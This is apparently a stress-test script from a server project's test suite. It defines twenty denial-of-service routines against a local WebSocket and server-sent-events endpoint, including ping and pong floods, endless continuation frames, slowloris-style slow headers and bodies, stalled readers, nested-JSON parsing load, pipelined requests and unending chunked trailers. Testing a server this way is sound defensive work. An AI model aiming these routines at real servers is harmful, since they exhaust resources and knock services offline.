"""The kinds of attack: what somebody may do with bare sockets, as fast as one process can, until it is time.

python tests/attacks/kinds.py NAME PORT SECONDS
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import socket
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass

HOST = "127.0.0.1"


def frame(first: int, payload: bytes = b"") -> bytes:
    """A frame of a client, masked with zeros; `first` is its first byte."""
    size = len(payload)
    if size < 126:
        head = bytes((first, 0x80 | size))
    elif size < 65536:
        head = bytes((first, 0xFE)) + size.to_bytes(2)
    else:
        head = bytes((first, 0xFF)) + size.to_bytes(8)
    return head + b"\0\0\0\0" + payload


def upgrade(path: str, *headers: str) -> bytes:
    lines = [
        f"GET {path} HTTP/1.1",
        f"Host: {HOST}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        "Sec-WebSocket-Version: 13",
        *headers,
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


@dataclass
class Attack:
    """Where to, and until when."""

    port: int
    until: float

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def connect(self, said: bytes = b"", *, small: bool = False) -> socket.socket:
        peer = socket.socket()
        if small:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 * 1024)
        peer.settimeout(1.0)
        peer.connect((HOST, self.port))
        if said:
            peer.sendall(said)
        return peer

    def opened(self, path: str = "/ws", *, small: bool = False) -> socket.socket:
        """A WebSocket, with its answer read."""
        peer = self.connect(upgrade(path), small=small)
        if not peer.recv(4096).startswith(b"HTTP/1.1 101"):
            raise ConnectionError("refused")
        return peer

    def flood(self, count: int, path: str, data: bytes, *, first: bytes = b"", reads: bool = False) -> None:
        """So many connections that send this again and again; one that is closed is opened anew."""
        peers: list[socket.socket | None] = [None] * count
        for at in itertools.cycle(range(count)):
            if not self.goes_on:
                break
            with contextlib.suppress(OSError):
                peer = peers[at]
                if peer is None:
                    peer = peers[at] = self.opened(path)
                    peer.sendall(first)
                    peer.setblocking(False)
                try:
                    peer.send(data)
                    if reads:
                        peer.recv(1 << 16)
                except BlockingIOError:
                    continue
                except OSError:
                    peer.close()
                    peers[at] = None

    def hold(self, open_one: Callable[[], socket.socket], count: int, then: bytes = b"") -> None:
        """So many connections that stay, and go on to say `then`; one that is closed is opened anew."""
        peers: list[socket.socket] = []
        while self.goes_on:
            while len(peers) < count and self.goes_on:
                try:
                    peers.append(open_one())
                except OSError:
                    break
            time.sleep(0.1)
            for peer in list(peers):
                try:
                    if then:
                        peer.sendall(then)
                except OSError:
                    peer.close()
                    peers.remove(peer)
        for peer in peers:
            peer.close()


def pings(attack: Attack) -> None:
    """Empty pings, forty thousand a read of the socket."""
    attack.flood(4, "/ws", frame(0x89) * 10_000, reads=True)


def pongs(attack: Attack) -> None:
    """A megabyte of pongs from each of twenty."""
    attack.flood(20, "/ws", frame(0x8A, b"x" * 10) * 60_000)


def frames(attack: Attack) -> None:
    """250 KB of the shortest text frames from each of many."""
    attack.flood(100, "/ws", frame(0x81, b"x" * 3) * 25_000)


def unread_pongs(attack: Attack) -> None:
    """Pings whose answers nobody reads."""
    attack.flood(4, "/ws?channel=busy", frame(0x89, b"x" * 125) * 500)


def continuations(attack: Attack) -> None:
    """A message of empty pieces that never ends."""
    attack.flood(50, "/ws", frame(0x00) * 30, first=frame(0x01, b"x"))


def unfinished(attack: Attack) -> None:
    """Messages of 64 KB of which the last byte never comes."""
    attack.hold(lambda: _sent(attack.opened(), frame(0x81, b"x" * 65_000)[:-1]), 60)


def nested(attack: Attack) -> None:
    """Commands that are costly to read."""
    attack.flood(10, "/ws", frame(0x81, (b"[" * 60 + b"]" * 60 + b",") * 480))


def frozen(attack: Attack) -> None:
    """Subscribers of a busy channel that read nothing, and say that they live."""
    attack.hold(lambda: attack.opened("/ws?channel=busy", small=True), 40, frame(0x89))


def frozen_events(attack: Attack) -> None:
    """The same over server-sent events, where there is nothing to say."""
    request = f"GET /sse?channel=busy HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    attack.hold(lambda: attack.connect(request, small=True), 60)


def heads(attack: Attack) -> None:
    """Heads of requests, a byte at a time."""
    attack.hold(lambda: attack.connect(b"GET / HTTP/1.1\r\n"), 100, b"x")


def bodies(attack: Attack) -> None:
    """Bodies that never end, for what takes them and what does not."""
    paths = itertools.cycle(("/api/publish", "/nowhere", "/emulation", "/health"))

    def open_one() -> socket.socket:
        lines = (
            f"POST {next(paths)} HTTP/1.1",
            f"Host: {HOST}",
            "Content-Type: application/json",
            "Content-Length: 100000",
        )
        return attack.connect(("\r\n".join(lines) + "\r\n\r\n").encode())

    attack.hold(open_one, 100, b"x")


def upgrades_with_bodies(attack: Attack) -> None:
    """Upgrades that declare a body."""
    attack.hold(lambda: attack.connect(upgrade("/ws", "Content-Length: 100000")), 100, b"x")


def silent(attack: Attack) -> None:
    """Connections that say nothing at all."""
    attack.hold(attack.connect, 200)


def names(attack: Attack) -> None:
    """Names that nobody uses, as many as there is time for."""
    numbers = itertools.count()
    while attack.goes_on:
        with contextlib.suppress(OSError):
            peer = attack.opened("/ws")
            for _ in range(120):
                said = {"type": "subscribe", "channel": f"names:{os.getpid()}:{next(numbers)}"}
                peer.sendall(frame(0x81, json.dumps(said).encode()))
            with contextlib.suppress(TimeoutError):
                peer.settimeout(0.2)
                while peer.recv(1 << 16):
                    pass
            peer.close()


def comings(attack: Attack) -> None:
    """Members of a room who come and go."""
    while attack.goes_on:
        with contextlib.suppress(OSError):
            attack.opened("/ws?channel=people").close()


def garbage(attack: Attack) -> None:
    """What is no frame, and no text."""
    wrong = itertools.cycle(
        (b"\xff\xff" * 50, frame(0x81, b"\xff\xfe"), frame(0xC1), frame(0x81, b"{" * 5000))
    )
    while attack.goes_on:
        with contextlib.suppress(OSError):
            peer = attack.opened("/ws")
            peer.sendall(next(wrong))
            peer.close()


def histories(attack: Attack) -> None:
    """All that is kept, asked for again and again, and not read."""
    body = json.dumps({"channel": "busy", "limit": -1}).encode()
    request = (
        f"POST /api/history HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode() + body
    attack.hold(lambda: attack.connect(request, small=True), 20)


def pipelines(attack: Attack) -> None:
    """Thousands of requests behind one that is never answered to its end."""
    stream = f"GET /sse?channel=room HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    attack.hold(lambda: attack.connect(stream + b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 2000), 20)


def trailers(attack: Attack) -> None:
    """A body that is over, and a trailer behind it that is not."""
    lines = ("GET /sse?channel=room HTTP/1.1", f"Host: {HOST}", "Transfer-Encoding: chunked")
    head = ("\r\n".join(lines) + "\r\n\r\n0\r\nX: ").encode()
    attack.hold(lambda: attack.connect(head), 20, b"x" * 65_536)


def arrivals(attack: Attack) -> None:
    """Twenty at once who come to a long history at each door, and leave with the first of it."""
    where = {"channel": "room", "recover": True, "epoch": "", "offset": 1}
    commands = ({"id": 1, "connect": {}}, {"id": 2, "subscribe": where})
    said = b"".join(frame(0x81, json.dumps(command).encode()) for command in commands)
    events = f"GET /sse?channel=room HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    while attack.goes_on:
        peers: list[socket.socket] = []
        with contextlib.suppress(OSError):
            for _ in range(20):
                peers.append(attack.connect(upgrade("/ws?channel=room")))
                peers.append(attack.connect(upgrade("/connection/websocket") + said))
                peers.append(attack.connect(events))
            time.sleep(0.2)
        for peer in peers:
            peer.close()


def _sent(peer: socket.socket, data: bytes) -> socket.socket:
    peer.sendall(data)
    return peer


KINDS = {
    kind.__name__: kind
    for kind in (
        pings,
        pongs,
        frames,
        unread_pongs,
        continuations,
        unfinished,
        nested,
        frozen,
        frozen_events,
        heads,
        bodies,
        upgrades_with_bodies,
        silent,
        names,
        comings,
        garbage,
        histories,
        pipelines,
        trailers,
        arrivals,
    )
}


def main() -> None:
    name, port, seconds = sys.argv[1:]
    KINDS[name](Attack(int(port), time.monotonic() + float(seconds)))


if __name__ == "__main__":
    main()
